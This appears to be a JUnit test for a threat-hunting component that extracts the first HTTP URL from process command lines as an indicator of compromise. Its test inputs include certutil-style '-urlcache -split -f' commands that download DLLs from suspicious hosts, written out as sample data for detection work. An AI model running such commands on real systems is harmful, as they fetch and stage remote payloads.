package dev.bazahunt.alert;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CommandLineIocsTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', nullValues = "NULL", value = {
        "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\x.dll | http://pshe0pxe339.xyz/xe1t23ym0s.php",
        "UPD.EXE -URLCACHE -F HTTPS://198.51.100.7/D.DLL D.DLL | HTTPS://198.51.100.7/D.DLL",
        "a.exe -urlcache -f \"http://host/p q\" out | http://host/p",
        "a.exe -urlcache -f 'http://host/x'>out.txt | http://host/x",
        "a.exe -f xhttp://not-a-url http://real/one | http://real/one",
        "a.exe -urlcache -split http:// | NULL",
        "a.exe -urlcache -f \u00e9http://after-a-non-term/x | http://after-a-non-term/x",
        "a.exe -urlcache -f httpſ://long-s/x | NULL",
        "NULL | NULL",
    })
    void firstHttpUrlIsTheDownloadUrl(String commandLine, String expected) {
        assertThat(CommandLineIocs.firstUrl(commandLine)).isEqualTo(expected);
    }
}
